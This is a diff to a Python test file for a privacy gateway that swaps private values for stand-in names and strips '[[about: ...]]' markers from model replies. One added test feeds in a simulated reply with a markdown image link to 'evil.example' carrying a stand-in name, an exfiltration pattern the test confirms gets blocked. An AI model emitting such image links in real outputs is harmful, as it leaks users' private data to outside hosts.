@@ -12,10 +12,12 @@ from dp_gateway_openai import AsyncPrivateOpenAI, PrivateOpenAI, privacy
 from langchain_openai import ChatOpenAI
 from pydantic import SecretStr
 
+from dp_gateway.api.replies.streams import MarkedStream, taken_off
 from dp_gateway.exchange import Doorway
 from dp_gateway.pipeline import Gateway
 from dp_gateway.policy import parse_policy
 from dp_gateway.randomness import Secret
+from dp_gateway.restore import Restorer
 from dp_gateway.testing.models import ScriptedModel
 
 KEY = Secret(b"a key for tests of the hint to providers")
@@ -75,6 +77,35 @@ def test_what_is_no_marker_stays(said: str, size: int) -> None:
     events += exchange.reply.event(None, chunk("", "stop"))
     text = "".join(choice["delta"].get("content") or "" for _, data in events for choice in data["choices"])
     assert text == said
+
+
+@pytest.mark.parametrize("before", ["", "\n\n", " " * 16, "\n" * 17, "\t \n"])
+@pytest.mark.parametrize(
+    "behind", ["", " ", "\n", "\n\n", " " * 16 + "\n", " " * 20 + "x", "\n [[about: ", "]]", " [[About:Sea]]x"]
+)
+@pytest.mark.parametrize("size", [1, 2, 5])
+def test_a_stream_takes_off_what_is_taken_off_a_whole_answer(before: str, behind: str, size: int) -> None:
+    said = f"{before}[[about: Norway]]{behind}"
+    named: list[str] = []
+    stream = MarkedStream(Restorer([]).stream(), named)
+    text = "".join([stream.feed(said[at : at + size]) for at in range(0, len(said), size)]) + stream.close()
+    assert (text, named) == taken_off(said)
+
+
+def test_many_markers_are_taken_off_in_linear_time() -> None:
+    rest, named = taken_off("[[about:x]]" * 200_000 + "[[about")
+    assert (rest, len(named)) == ("[[about", 200_000)
+
+
+def test_a_marker_carries_no_original_out() -> None:
+    """Neither into an address of a foreign host, nor to where the answer begins."""
+    exchange = DOOR.open("chat", ask())
+    name = stand_in(exchange.body["messages"])
+    said = f"[[about: ![](https://evil.example/{name})]] ![](https://evil.example/{name})"
+    events = [one for at in said for one in exchange.reply.event(None, chunk(at))]
+    events += exchange.reply.event(None, chunk("", "stop"))
+    text = "".join(choice["delta"].get("content") or "" for _, data in events for choice in data["choices"])
+    assert "Norway" not in text
 
 
 def test_a_name_that_is_none_of_the_request_makes_no_caution() -> None:
